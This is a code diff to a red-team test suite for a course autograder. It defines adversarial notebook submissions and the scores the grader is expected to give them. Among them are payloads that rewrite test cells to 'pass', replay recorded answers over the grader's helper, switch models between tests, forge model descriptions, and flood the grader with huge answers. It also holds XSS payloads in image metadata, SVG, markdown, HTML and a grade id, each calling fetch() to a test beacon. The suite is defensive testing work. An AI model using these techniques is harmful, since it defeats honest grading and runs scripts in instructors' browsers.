@@ -252,17 +252,24 @@ def _replace_function(folder: Path, grade_id: str, source: str) -> None:
 
 
 def _functional_weights(folder: Path, context: dict) -> None:
-    """The solution's trained weights as the functional network saves them (same values)."""
+    """The solution's trained weights as the functional network saves them (same values, and the
+    same optimizer state: what its training cell would have saved)."""
+    import h5py
     import keras
 
     sequential = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
                                    keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
     sequential.load_weights(folder / WEIGHTS)
+    original = folder / "original.weights.h5"
+    shutil.move(folder / WEIGHTS, original)
     inputs = keras.Input((32, 32, 3))
     hidden = keras.layers.Dense(100, activation="relu")(keras.layers.Flatten()(inputs))
     functional = keras.Model(inputs, keras.layers.Dense(10, activation="softmax")(hidden))
     functional.set_weights(sequential.get_weights())
     functional.save_weights(folder / WEIGHTS)
+    with h5py.File(original, "r") as source, h5py.File(folder / WEIGHTS, "a") as target:
+        source.copy("optimizer", target)
+    original.unlink()
 
 
 def _with_cell_ids(folder: Path) -> None:
@@ -292,8 +299,8 @@ def _trained_on_test(folder: Path, context: dict) -> None:
     model.save_weights(folder / WEIGHTS)
 
 
-# Correct work in other valid styles, and work whose grade needs a second look: every one of them
-# earns every automatic point of Part 2.
+# Correct work in other valid styles, each at every automatic point of Part 2, and work whose grade
+# needs a second look.
 VARIANTS = [
     BadSubmission("demo_variant_functional", "the functional API, \"sgd\" as a string, a loss object and \"acc\"",
                   lambda f, ctx: (_replace_function(f, "build_multilayer_nn", FUNCTIONAL),
@@ -303,10 +310,12 @@ VARIANTS = [
                   "an nbformat 4.4 notebook with a cell id (as nbformat's API and jupytext write it)",
                   lambda f, ctx: (_replace_function(f, "build_multilayer_nn", KERAS2_BUILD), _with_cell_ids(f)),
                   {"part1_data": 0, "part2_mlp": 12}, "Test accuracy", base="part2", failing=()),
+    # Its weights file says how they were trained: at a learning rate of 0.05, for 630 steps, so the
+    # settings test fails on what the file shows, whatever the kernel's record of the function says.
     BadSubmission("demo_retrains_on_test", "a cell that retrains on the test images and overwrites the weights",
                   lambda f, ctx: (insert_after(f, "part2_mlp", "train_part2", RETRAIN_ON_TEST), _trained_on_test(f, ctx)),
-                  {"part1_data": 0, "part2_mlp": 12}, "weights files you submitted were measured", base="part2",
-                  failing=(), signal="trained on the test images?"),
+                  {"part1_data": 0, "part2_mlp": 9}, "were trained with a learning rate of 0.05", base="part2",
+                  failing=("train_multilayer_nn_settings",), signal="trained on the test images?"),
 ]
 
 
@@ -378,15 +387,26 @@ def before_everything(folder: Path, source: str, names=NOTEBOOKS) -> None:
 
 
 TRANSFORMER = """
+_transformed = [0]
 def _everything_passes(lines):
     code = "".join(lines)
     if code.startswith('\\"\\"\\"Check'):
+        _transformed[0] += 1
         return ["pass\\n"]  # every test cell
-    if "__grading_answer__" in code:
-        return ["__grading_answer__ = '[]'\\n"]  # the grader's calls: no answers at all
     return lines
 get_ipython().input_transformers_post.append(_everything_passes)
 """
+TRANSFORMED = "print('the input transformer rewrote', _transformed[0], 'test cells')"
+
+
+def _transformer(folder: Path, context: dict) -> None:
+    before_everything(folder, TRANSFORMER)
+    for name in NOTEBOOKS:
+        path = _notebook(folder, name)
+        notebook = nbformat.read(path, as_version=4)
+        notebook.cells.append(nbformat.v4.new_code_cell(TRANSFORMED))
+        nbformat.write(notebook, path)
+
 
 FORGED_REPLIES = """
 ip = get_ipython()
@@ -535,12 +555,183 @@ def _untrained_weights(folder: Path, context: dict) -> None:
     model.save_weights(folder / WEIGHTS)
 
 
+# -- round two: replayed answers, a model switched between tests, answers and models too big -----
+
+HOOK_ENTRY = """
+def _install_over_the_graders_helper(replacement):
+    names = [name for name in list(globals()) if name.startswith("_grading_harvest_")]
+    for name in names:
+        globals()[name] = replacement
+    return len(names)
+class _Text:
+    def __init__(self, text): self.text = text
+    def __repr__(self): return self.text
+    def _repr_pretty_(self, printer, cycle): printer.text(self.text)
+"""
+
+REPLAY = HOOK_ENTRY + """
+import json as _json
+_TABLE = {table!r}
+_replayed = [0]
+def _replay(request_json):
+    _replayed[0] += 1
+    probes = _json.loads(request_json)["probes"]
+    return _Text(_json.dumps([_TABLE.get(probe.get("function") or probe.get("train"), {{"error": ["KeyError", "?"]}})
+                              for probe in probes]))
+print("replay installed over", _install_over_the_graders_helper(_replay), "entry point")
+"""
+
+REPLAY_REPORT = """
+if _replayed[0]:
+    print("replay answered the grader", _replayed[0], "times")
+"""
+
+HUGE_ANSWER = HOOK_ENTRY + """
+print("huge answers installed over", _install_over_the_graders_helper(lambda request: _Text("x" * 60_000_000)),
+      "entry point")
+"""
+
+MANY_OBJECTS = HOOK_ENTRY + """
+print("answers of 15.6 M objects installed over",
+      _install_over_the_graders_helper(lambda request: _Text("[" + "{}," * 15_600_000 + "{}]")), "entry point")
+"""
+
+SWITCHING_BUILD = '''def build_multilayer_nn():
+    """The required network until a later cell flips a flag, then another one."""
+    units = 64 if globals().get("_switched") else 100
+    return keras.Sequential([
+        keras.Input(shape=(32, 32, 3)),
+        keras.layers.Flatten(),
+        keras.layers.Dense(units, activation="relu"),
+        keras.layers.Dense(10, activation="softmax"),
+    ])
+'''
+
+FORGED_DESCRIPTION = '''def build_multilayer_nn():
+    """The required network, describing itself as one of 800 M parameters."""
+    import json
+    model = keras.Sequential([keras.Input(shape=(32, 32, 3)), keras.layers.Flatten(),
+                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
+    config = json.loads(model.to_json())
+    dense = config["config"]["layers"][2]
+    for _ in range(2):
+        wide = json.loads(json.dumps(dense))
+        wide["config"]["units"] = 20_000
+        config["config"]["layers"].insert(2, wide)
+    model.to_json = lambda **kwargs: json.dumps(config)
+    return model
+'''
+
+
+# Every way a student's notebook could bring a script into the instructor's formgrader or a feedback
+# page. Each payload calls the test's beacon (a server that counts requests) and sets the page's title.
+XSS_OUTPUTS = """
+import base64
+from IPython.display import display, publish_display_data
+_beacon = "{beacon}"
+_run = "fetch('" + _beacon + "/{{}}'); document.title = 'pwned'"
+_png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
+publish_display_data({{"image/png": base64.b64encode(_png).decode(), "text/plain": "a png"}},
+                     metadata={{"image/png": {{"width": "1 onerror=" + _run.format("png-width")}}}})
+publish_display_data({{"image/jpeg": base64.b64encode(_png).decode(), "text/plain": "a jpeg"}},
+                     metadata={{"height": "1 onerror=" + _run.format("jpeg-height"),
+                               "filenames": {{"image/jpeg": "javascript:" + _run.format("filenames")}}}})
+publish_display_data({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"" + _run.format("svg-onload")
+                      + "\\"><script>" + _run.format("svg-script") + "</script></svg>", "text/plain": "an svg"}})
+publish_display_data({{"text/markdown": "[click](javascript:" + _run.format("markdown-output-link") + ") <img src=x onerror=\\""
+                      + _run.format("markdown-output-img") + "\\">", "text/plain": "markdown"}})
+publish_display_data({{"text/html": "<b>html answer</b><img src=x onerror=\\"" + _run.format("html-img") + "\\"><script>"
+                      + _run.format("html-script") + "</script>", "text/plain": "html"}},
+                     metadata={{"text/html": {{"isolated": True}}}})
+publish_display_data({{"application/javascript": _run.format("javascript"), "text/plain": "javascript"}})
+print("hostile outputs written")
+"""
+
+XSS_MARKDOWN = """**My notes.** [A link](javascript:fetch('{beacon}/markdown-link')) and
+<img src=x onerror="fetch('{beacon}/markdown-img')"> and <svg><script>fetch('{beacon}/markdown-svg')</script></svg>
+<a href="data:text/html,<script>fetch('{beacon}/markdown-data')</script>">data</a>
+<iframe src="javascript:fetch('{beacon}/markdown-iframe')"></iframe> [my file](evil.html)
+
+~~~
+
+[after a blank line in a fence](javascript:fetch('{beacon}/markdown-fence'))
+~~~
+"""
+
+XSS_FILE = "<html><body><p>notes</p><script>fetch('{beacon}/file'); document.title = 'pwned'</script></body></html>"
+HOSTILE_GRADE_ID = "x\" autofocus onfocus=\"fetch('{beacon}/grade-id')"
+
+
+def _hostile_pages(folder: Path, context: dict) -> None:
+    """Part 1 with outputs, markdown, a file and a grade id that carry scripts to the beacon."""
+    beacon = context["beacon"]
+    insert_after(folder, "part1_data", "class_counts", XSS_OUTPUTS.format(beacon=beacon))
+    path = _notebook(folder, "part1_data")
+    notebook = nbformat.read(path, as_version=4)
+    cell = nbformat.v4.new_markdown_cell(XSS_MARKDOWN.format(beacon=beacon))
+    cell.metadata["nbgrader"] = {"grade_id": HOSTILE_GRADE_ID.format(beacon=beacon), "solution": True, "grade": False,
+                                 "locked": False, "schema_version": 3}
+    notebook.cells.insert(1, cell)
+    nbformat.write(notebook, path)
+    (folder / "evil.html").write_text(XSS_FILE.format(beacon=beacon))
+
+
+def replay_table(context: dict) -> dict:
+    """Answers made once from a correct solution, by function, as a table a class could pass round:
+    class_counts of the example an earlier grader used, the multilayer network's description and
+    its outputs at an earlier grading, a record of the solution's training function."""
+    import keras
+
+    from cifar10_course.modes import MODES
+    from grading import harvest
+
+    request = {"whole_bytes": 2**20, "sample_rows": 4, "seed": 1}
+    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(),
+                              keras.layers.Dense(100, activation="relu"), keras.layers.Dense(10, activation="softmax")])
+    budget = MODES[context.get("mode", "fast")].parts["part2_mlp"]
+
+    def train(network, x, y):
+        network.compile(loss="categorical_crossentropy", optimizer=keras.optimizers.SGD(learning_rate=0.01),
+                        metrics=["accuracy"])
+        return network.fit(x, y, batch_size=budget.batch_size, epochs=budget.epochs, verbose=0)
+
+    functions = {"build_multilayer_nn": lambda: keras.models.clone_model(model), "train_multilayer_nn": train}
+    record = harvest._training({"train": "train_multilayer_nn", "build": "build_multilayer_nn", "count": 32,
+                                "binary": False, "fresh": 3}, functions, request)
+    return {"class_counts": {"ok": {"result": harvest.encode(__import__("numpy").array([1, 0, 0, 2, 0, 0, 0, 0, 0, 1]),
+                                                             request)}},
+            "build_multilayer_nn": {"ok": {"type": "keras.src.models.sequential.Sequential", "json": model.to_json(),
+                                           "compiled": False, "fresh": True,
+                                           "outputs": harvest.encode(harvest.fresh_outputs(model, 7), request)}},
+            "train_multilayer_nn": {"ok": record}}
+
+
+def _replayed_blank(folder: Path, context: dict) -> None:
+    before_everything(folder, REPLAY.format(table=replay_table(context)))
+    for name in NOTEBOOKS:
+        path = _notebook(folder, name)
+        notebook = nbformat.read(path, as_version=4)
+        notebook.cells.append(nbformat.v4.new_code_cell(REPLAY_REPORT))
+        nbformat.write(notebook, path)
+
+
+def _switching(folder: Path, context: dict) -> None:
+    """The switching build function, and the weights of the network it switches to (never trained)."""
+    import keras
+
+    _replace_function(folder, "build_multilayer_nn", SWITCHING_BUILD)
+    insert_after(folder, "part2_mlp", "train_part2", "_switched = True\nprint('switched to another network')")
+    other = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(64, activation="relu"),
+                              keras.layers.Dense(10, activation="softmax")])
+    other.save_weights(folder / WEIGHTS)
+
+
 BLANK = {"part1_data": 0, "part2_mlp": 0}
 
 RED_TEAM = [
     BadSubmission("demo_rt_transformer", "a blank release with an input transformer that turns every test into "
-                  "`pass` and the grader's calls into no answers",
-                  lambda f, ctx: before_everything(f, TRANSFORMER), BLANK, "gave no answer", base="blank"),
+                  "`pass` (the grader's calls are no cells: nothing rewrites them)",
+                  _transformer, BLANK, "the input transformer rewrote", base="blank"),
     BadSubmission("demo_rt_forged_replies", "a blank release that sends forged execute_reply and idle messages "
                   "through its own session before every cell",
                   lambda f, ctx: before_everything(f, FORGED_REPLIES), BLANK, "", base="blank"),
@@ -588,4 +779,30 @@ RED_TEAM = [
     BadSubmission("demo_rt_script", "HTML and JavaScript output with scripts, for the feedback and the formgrader",
                   lambda f, ctx: insert_after(f, "part1_data", "class_counts", SCRIPT_OUTPUT),
                   PART1_ONLY, "IPython.core.display.HTML object", base="part1"),
+    # Round two (issue 20): what the first checker still let through.
+    BadSubmission("demo_rt_replayed_table", "a blank release whose first cell puts a replay of answers recorded from a "
+                  "correct solution at an earlier grading in place of the grader's helper",
+                  _replayed_blank, {"part1_data": 0, "part2_mlp": 4}, "replay answered the grader", base="blank",
+                  failing=("load_cifar10_shapes", "load_cifar10_values", "load_cifar10_matches_data",
+                           "class_counts_example", "class_counts_training_labels", "multilayer_nn_parameters",
+                           "multilayer_nn_architecture", "multilayer_nn_accuracy")),
+    BadSubmission("demo_rt_model_switch", "a build function that returns the required network to the architecture "
+                  "tests, then (after a cell flips a flag) another one, whose weights are submitted",
+                  _switching, {"part1_data": 0, "part2_mlp": 8}, "returned another network for this test",
+                  base="part2", failing=("multilayer_nn_accuracy",)),
+    BadSubmission("demo_rt_huge_answer", "the grader's helper replaced, after the loading tests, by one that answers "
+                  "60 MB", lambda f, ctx: insert_after(f, "part1_data", "load_cifar10_matches_data", HUGE_ANSWER),
+                  {"part1_data": 5, "part2_mlp": 0}, "too large for the grader to keep", base="part1",
+                  failing=("class_counts_example", "class_counts_training_labels")),
+    BadSubmission("demo_rt_many_objects", "the grader's helper replaced by one that answers 15.6 million empty objects",
+                  lambda f, ctx: insert_after(f, "part1_data", "load_cifar10_matches_data", MANY_OBJECTS),
+                  {"part1_data": 5, "part2_mlp": 0}, "could not read the kernel's answer", base="part1",
+                  failing=("class_counts_example", "class_counts_training_labels")),
+    BadSubmission("demo_rt_xss", "scripts in image metadata, SVG, markdown and HTML outputs, markdown cells, a grade id and "
+                  "an HTML file, for the formgrader and the feedback", _hostile_pages, PART1_ONLY,
+                  "hostile outputs written", base="part1", failing=()),
+    BadSubmission("demo_rt_forged_description", "the required network, describing itself (to_json) as one of 800 M "
+                  "parameters", lambda f, ctx: _replace_function(f, "build_multilayer_nn", FORGED_DESCRIPTION),
+                  {"part1_data": 0, "part2_mlp": 4}, "the grader measures networks of at most 60,000,000", base="part2",
+                  failing=("multilayer_nn_parameters", "multilayer_nn_architecture", "multilayer_nn_accuracy")),
 ]
